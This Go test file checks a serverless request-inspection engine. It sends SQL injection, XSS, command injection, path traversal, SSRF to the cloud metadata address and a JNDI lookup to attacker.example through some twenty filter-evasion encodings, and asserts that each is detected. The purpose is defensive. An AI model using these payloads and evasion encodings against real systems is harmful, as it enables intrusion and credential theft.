package rules_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/lambda-rasp/lambda-rasp/rasp/adapter"
	"github.com/lambda-rasp/lambda-rasp/rules"
)

// evasionPayloads are one attack per detector of the default policy.
var evasionPayloads = []struct {
	detector string
	give     string
}{
	{detector: "sqli", give: "1' UNION SELECT password FROM users--"},
	{detector: "xss", give: "<script>alert(document.cookie)</script>"},
	{detector: "cmdi", give: "; cat /etc/passwd"},
	{detector: "traversal", give: "../../../../etc/passwd"},
	{detector: "ssrf", give: "http://169.254.169.254/latest/meta-data/"},
	{detector: "jndi", give: "${jndi:ldap://attacker.example/a}"},
}

// apiEvent returns an API Gateway v2 event carrying rawQuery as the query
// string as sent, headers as single-value headers and body as the body.
func apiEvent(t *testing.T, rawQuery string, headers map[string]string, body string) []byte {
	t.Helper()
	ev := map[string]any{
		"version":        "2.0",
		"routeKey":       "POST /items",
		"rawPath":        "/items",
		"rawQueryString": rawQuery,
		"headers":        headers,
		"requestContext": map[string]any{"http": map[string]any{"method": "POST", "path": "/items"}},
		"body":           body,
	}
	b, err := json.Marshal(ev)
	if err != nil {
		t.Fatalf("marshal event: %v", err)
	}
	return b
}

// inspectEvent runs raw through the adapter and the default engine and
// returns the ids of the rules that matched.
func inspectEvent(t *testing.T, e *rules.Engine, raw []byte) []string {
	t.Helper()
	ev, err := adapter.Parse(raw, adapter.PolicyLimits(e.Limits()))
	if err != nil {
		t.Fatalf("parse event: %v", err)
	}
	d := e.Inspect(context.Background(), &ev.Request)
	if d.Err != nil {
		t.Fatalf("inspect: %v", d.Err)
	}
	ids := make([]string, 0, len(d.Matches))
	for _, m := range d.Matches {
		ids = append(ids, m.RuleID)
	}
	return ids
}

// pctAll percent-encodes every byte of s.
func pctAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, "%%%02X", s[i])
	}
	return b.String()
}

// overlong encodes every ASCII punctuation byte as a two-byte overlong
// UTF-8 sequence, percent-encoded (for example "/" as %C0%AF).
func overlong(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c < 0x80 && !isAlnum(c) {
			fmt.Fprintf(&b, "%%%02X%%%02X", 0xC0|c>>6, 0x80|c&0x3F)
			continue
		}
		b.WriteByte(c)
	}
	return b.String()
}

// percentU encodes every non-alphanumeric byte as an IIS %uXXXX escape.
func percentU(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if c := s[i]; !isAlnum(c) {
			fmt.Fprintf(&b, "%%u%04X", c)
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// backslashU encodes every non-alphanumeric byte as a \uXXXX escape in
// the value itself (not JSON syntax, which the adapter decodes).
func backslashU(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if c := s[i]; !isAlnum(c) {
			fmt.Fprintf(&b, `\u%04x`, c)
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// fullwidth maps printable ASCII to the fullwidth forms U+FF01..U+FF5E.
func fullwidth(s string) string {
	return strings.Map(func(r rune) rune {
		if r > 0x20 && r < 0x7F {
			return r - 0x21 + 0xFF01
		}
		return r
	}, s)
}

// circled maps ASCII letters to circled letters (U+24B6.., U+24D0..).
func circled(s string) string {
	return strings.Map(func(r rune) rune {
		switch {
		case r >= 'A' && r <= 'Z':
			return r - 'A' + 0x24B6
		case r >= 'a' && r <= 'z':
			return r - 'a' + 0x24D0
		}
		return r
	}, s)
}

// mixedCase alternates the case of letters.
func mixedCase(s string) string {
	b := []byte(s)
	for i, c := range b {
		if i%2 == 0 && c >= 'a' && c <= 'z' {
			b[i] = c - 32
		} else if i%2 == 1 && c >= 'A' && c <= 'Z' {
			b[i] = c + 32
		}
	}
	return string(b)
}

func isAlnum(c byte) bool {
	return c >= '0' && c <= '9' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

// evasion is one way of carrying a payload; query is the raw query string
// (or "" to use body or headers instead).
type evasion struct {
	name    string
	query   func(p string) string
	headers func(p string) map[string]string
	body    func(p string) string
}

var evasions = []evasion{
	{name: "plain", query: func(p string) string { return "q=" + url.QueryEscape(p) }},
	{name: "double URL encoding", query: func(p string) string { return "q=" + url.QueryEscape(pctAll(p)) }},
	{name: "triple URL encoding", query: func(p string) string { return "q=" + url.QueryEscape(url.QueryEscape(pctAll(p))) }},
	{name: "overlong UTF-8", query: func(p string) string { return "q=" + overlong(p) }},
	{name: "%u escapes", query: func(p string) string { return "q=" + percentU(p) }},
	{name: `\u escapes`, query: func(p string) string { return "q=" + url.QueryEscape(backslashU(p)) }},
	{name: "mixed case", query: func(p string) string { return "q=" + url.QueryEscape(mixedCase(p)) }},
	{name: "null byte prefix", query: func(p string) string { return "q=%00" + url.QueryEscape(p) }},
	{name: "null bytes inside", query: func(p string) string { return "q=" + strings.ReplaceAll(url.QueryEscape(p), "%2F", "%00%2F") }},
	{name: "JSON unicode escapes", body: func(p string) string { return `{"q":"` + jsonEscapeAll(p) + `"}` }},
	{name: "32 KiB padding", query: func(p string) string { return "q=" + strings.Repeat("a", 32<<10) + "+" + url.QueryEscape(p) }},
	{name: "512 KiB padding in body", body: func(p string) string {
		b, _ := json.Marshal(map[string]string{"q": strings.Repeat("lorem ipsum ", 512<<10/12) + p})
		return string(b)
	}},
	{name: "SQL comments for spaces", query: func(p string) string { return "q=" + url.QueryEscape(strings.ReplaceAll(p, " ", "/**/")) }},
	{name: "newlines for spaces", query: func(p string) string { return "q=" + strings.ReplaceAll(url.QueryEscape(p), "+", "%0a") }},
	{name: "tabs for spaces", query: func(p string) string { return "q=" + strings.ReplaceAll(url.QueryEscape(p), "+", "%09") }},
	{name: "plus for spaces", query: func(p string) string { return "q=" + url.QueryEscape(p) }},
	{name: "fullwidth", query: func(p string) string { return "q=" + url.QueryEscape(fullwidth(p)) }},
	{name: "circled letters", query: func(p string) string { return "q=" + url.QueryEscape(circled(p)) }},
	{name: "parameter pollution", query: func(p string) string {
		h := len(p) / 2
		return "q=" + url.QueryEscape(p[:h]) + "&q=" + url.QueryEscape(p[h:])
	}},
	{name: "split across header values", headers: func(p string) map[string]string {
		h := len(p) / 2
		return map[string]string{"x-item": p[:h] + "," + p[h:]}
	}},
}

// jsonEscapeAll writes every byte of s as a JSON \u escape.
func jsonEscapeAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\u%04x`, s[i])
	}
	return b.String()
}

// evasionLimits lists, as "evasion/detector", the cases the default
// policy does not detect, each with the reason. The test asserts they are
// still missed, so a detector change that closes one is noticed and the
// entry removed.
var evasionLimits = map[string]string{
	"split across header values/ssrf": "the function receives \"http://169.254.1,69.254.169.254/...\" as one value; " +
		"ssrf parses the URL's host, and a host cut by a comma is not an address a client would dial, " +
		"so there is nothing to reassemble",
}

// Parameter pollution: every value of a repeated query parameter is its
// own field (query.q twice), inspected on its own and never joined. A
// payload cut in two is detected when a part is an attack by itself, as
// for every payload above; a back end that joins the values itself (with
// a comma, as ASP.NET does) sees a string no field holds.
//
// TestEvasion carries one payload per detector through every evasion, as
// an API Gateway v2 event through the adapter and the default policy.
func TestEvasion(t *testing.T) {
	e, err := rules.DefaultEngine()
	if err != nil {
		t.Fatal(err)
	}
	for _, ev := range evasions {
		for _, p := range evasionPayloads {
			name := ev.name + "/" + p.detector
			t.Run(name, func(t *testing.T) {
				var raw []byte
				switch {
				case ev.query != nil:
					raw = apiEvent(t, ev.query(p.give), nil, "")
				case ev.headers != nil:
					raw = apiEvent(t, "", ev.headers(p.give), "")
				default:
					raw = apiEvent(t, "", map[string]string{"content-type": "application/json"}, ev.body(p.give))
				}
				ids := inspectEvent(t, e, raw)
				got := slices.Contains(ids, p.detector)
				reason, limit := evasionLimits[name]
				switch {
				case limit && got:
					t.Errorf("got matches %v for a documented limit (%s); remove the limit", ids, reason)
				case !limit && !got:
					t.Errorf("got matches %v, want rule %s", ids, p.detector)
				}
			})
		}
	}
}
